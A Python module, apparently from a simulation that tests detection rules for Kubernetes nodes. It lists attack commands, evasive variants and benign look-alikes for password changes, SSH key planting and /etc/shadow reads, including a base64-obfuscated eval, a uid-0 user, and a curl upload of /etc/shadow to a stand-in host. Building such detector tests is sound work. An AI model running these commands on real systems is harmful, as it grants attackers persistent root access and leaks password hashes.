"""Commands about passwords and keys of accounts: changed, read, or let in by."""

from __future__ import annotations

from simulation.attacks.register import careful, near_miss
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Shell, Started
from simulation.attacks.tables import Place, encoded, line, run, table
from simulation.clock import SECOND
from simulation.schedule import Life

CHANGE = "K8S.NODE_SuspectPasswordChange"
KEYS = "K8S.NODE_SshKeyAccess"
PASSWORDS = "K8S.NODE_SuspectPasswordFileAccess"
HASH = "$6$invented$NotAHashOfAnything"
KEY = "ssh-ed25519 AAAAC3NzaInventedKeyOfNobody ops@relay.example"
FED = "import os;os.system(\"usermod -p '$1$ab$NotAHash' root\")"

table(
    CHANGE,
    straight=[
        run(("usermod", "-p", HASH, "root"), at=Place.EXEC),
        line("echo 'root:Winter-2026' | chpasswd", runs=["chpasswd"], at=Place.EXEC),
        line(f"echo 'backup:{HASH}' | chpasswd -e", runs=["chpasswd -e"], at=Place.HOST),
        run(("useradd", "-o", "-u", "0", "-p", HASH, "sysadm"), at=Place.EXEC, also=("K8S.NODE_SuspectUserAddition",)),
        line(
            'usermod --password "$(openssl passwd -6 Winter-2026)" root',
            runs=["openssl passwd -6 Winter-2026", ("usermod", "--password", HASH, "root")],
            at=Place.HOST,
        ),
    ],
    careful=[
        line(
            'H=$(mkpasswd -m sha-512 Winter-2026); usermod -p"$H" root',
            runs=["mkpasswd -m sha-512 Winter-2026", ("usermod", f"-p{HASH}", "root")],
            at=Place.EXEC,
        ),
        line(
            "perl -e 'print crypt(\"w26\", q($6$ab$))' | xargs -I{} usermod --pass {} root",
            runs=[
                ("perl", "-e", 'print crypt("w26", q($6$ab$))'),
                Started("xargs -I{} usermod --pass {} root", [("usermod", "--pass", HASH, "root")]),
            ],
            at=Place.EXEC,
        ),
        run(
            ("python3", "-c", FED),
            runs=[
                Started(("sh", "-c", "usermod -p '$1$ab$NotAHash' root"), [("usermod", "-p", "$1$ab$NotAHash", "root")])
            ],
            at=Place.HOST,
        ),
        line("cat /opt/p | busybox chpasswd -e", at=Place.EXEC),
        line('c"h"passwd -c SHA512 < /opt/p', runs=["chpasswd -c SHA512"], at=Place.EXEC),
    ],
    quiet=[
        run("passwd -l deploy", at=Place.HOST),
        run("passwd --status root", at=Place.HOST),
        run("openssl passwd -6 -salt pillar", at=Place.EXEC),
        line("mkpasswd -m sha-512 < /dev/null", runs=["mkpasswd -m sha-512"], at=Place.HOST),
        run(("python3", "-c", "import secrets;print(secrets.token_urlsafe(24))"), at=Place.EXEC),
    ],
)

ADD_KEY = f"echo '{KEY}' >> /host/root/.ssh/authorized_keys"

table(
    KEYS,
    straight=[
        line(
            f"echo '{KEY}' >> /root/.ssh/authorized_keys",
            runs=[],
            at=Place.EXEC,
            touches=("/root/.ssh/authorized_keys", True),
        ),
        line(
            f"printf '%s\\n' '{KEY}' | tee -a /home/deploy/.ssh/authorized_keys",
            runs=["tee -a /home/deploy/.ssh/authorized_keys"],
            at=Place.HOST,
        ),
        run(
            "wget -q -O /home/deploy/.ssh/authorized_keys2 https://keys.pale-harbor.example/k",
            at=Place.EXEC,
            also=("K8S.NODE_SuspectDownloadArtifacts",),
        ),
        run("chattr +i /root/.ssh/authorized_keys", at=Place.HOST),
    ],
    careful=[
        line(
            f'eval "$(echo {encoded(ADD_KEY)} | base64 -d)"',
            runs=["base64 -d"],
            at=Place.EXEC,
            touches=("/host/root/.ssh/authorized_keys", True),
        ),
        line(
            f"sed -i -e '$a {KEY}' /home/deploy/.ssh//authorized_keys",
            runs=[("sed", "-i", "-e", f"$a {KEY}", "/home/deploy/.ssh//authorized_keys")],
            at=Place.EXEC,
        ),
        line(
            "A=authorized; B=_keys; cp /srv/k /root/.ssh/$A$B",
            runs=["cp /srv/k /root/.ssh/authorized_keys"],
            at=Place.EXEC,
        ),
        line(
            "cd /root/.s*h && cat /srv/k >> auth*_keys2",
            runs=["cat /srv/k"],
            at=Place.EXEC,
            touches=("/root/.ssh/authorized_keys2", True),
        ),
        line("dd if=/srv/k of=/root/.ssh/authorized_keys oflag=append conv=notrunc", at=Place.HOST),
    ],
    quiet=[
        run("ssh-keygen -l -f /home/operator/.ssh/authorized_keys", at=Place.HOST),
        run("ls -la /root/.ssh/authorized_keys", at=Place.HOST),
        run("/usr/bin/google_guest_agent", at=Place.DAEMON, touches=("/home/operator/.ssh/authorized_keys", True)),
        run(
            "/usr/bin/python3 -u /usr/sbin/waagent -run-exthandlers",
            at=Place.DAEMON,
            touches=("/home/operator/.ssh/authorized_keys", True),
        ),
        run(
            "/usr/bin/python3 /usr/bin/cloud-init modules --mode=init",
            at=Place.DAEMON,
            touches=("/root/.ssh/authorized_keys", True),
        ),
    ],
)


@careful(KEYS)
def script_lets_a_key_in(scene: Scene) -> Life:
    """A script without a telling command line writes an authorized_keys file: only the file event shows it."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    script = shell.run("/usr/bin/python3 /srv/maintain.py", seconds=3)
    shell.touch(script, "/home/deploy/.ssh/authorized_keys", KEYS, write=True)


@near_miss(KEYS)
def ssh_server_reads_keys(scene: Scene) -> Life:
    """Somebody logs in to a node: its ssh server reads which keys are let in."""
    machine = scene.chance.pick(scene.cluster.machines)
    server = Shell(scene, machine.sshd)
    session = server.run("/usr/sbin/sshd -D -R", seconds=300)
    server.touch(session, "/home/operator/.ssh/authorized_keys")
    yield 0


OPENED = "print(open('/etc/sh'+'adow').read())"

table(
    PASSWORDS,
    straight=[
        run("cat /etc/shadow", at=Place.EXEC, touches=("/etc/shadow", False)),
        line("cp /etc/shadow /srv/s && base64 /srv/s", at=Place.EXEC),
        run("tail -n 3 /host/etc/shadow", at=Place.EXEC),
        run("curl -s -T /etc/shadow https://drop.pale-harbor.example/u", at=Place.EXEC),
        line(
            "unshadow /etc/passwd /etc/shadow > h",
            runs=["unshadow /etc/passwd /etc/shadow"],
            at=Place.EXEC,
            also=("K8S.NODE_KnownLinuxCredentialAccessTool",),
        ),
    ],
    careful=[
        line("cat /etc/./sha''dow", runs=["cat /etc/./shadow"], at=Place.EXEC),
        line(
            "f=shad; awk -F: '{print $2}' /etc/${f}ow-",
            runs=[("awk", "-F:", "{print $2}", "/etc/shadow-")],
            at=Place.EXEC,
        ),
        run("cat ../../../../etc/shadow", at=Place.EXEC, cwd="/app/data"),
        run("busybox dd if=/host//etc/gshadow", at=Place.EXEC),
        run(("python3", "-c", OPENED), at=Place.HOST, touches=("/etc/shadow", False)),
    ],
    quiet=[
        run("cat /etc/passwd", at=Place.EXEC),
        run("ls -l /etc/shadow", at=Place.EXEC),
        run("stat -c %a /etc/shadow", at=Place.HOST),
        run("passwd --status operator", at=Place.HOST, touches=("/etc/shadow", False)),
        run("/usr/sbin/unix_chkpwd operator nullok", at=Place.DAEMON, touches=("/etc/shadow", False)),
        run(
            "/usr/sbin/useradd --system --no-create-home node-exporter",
            at=Place.DAEMON,
            under=(
                "dpkg --configure prometheus-node-exporter",
                "/bin/sh /var/lib/dpkg/info/prometheus-node-exporter.postinst configure",
            ),
            touches=("/etc/shadow", True),
        ),
        run("sudo systemctl status kubelet", at=Place.HOST, touches=("/etc/shadow", False)),
    ],
)


@careful(PASSWORDS)
def archive_takes_password_file(scene: Scene) -> Life:
    """A whole folder is packed by tar, and with it, which its arguments do not say, the file of encrypted passwords."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    packed = shell.run("tar czf /srv/etc.tgz -C /host etc", seconds=2)
    shell.touch(packed, "/host/etc/shadow", PASSWORDS)
    yield SECOND
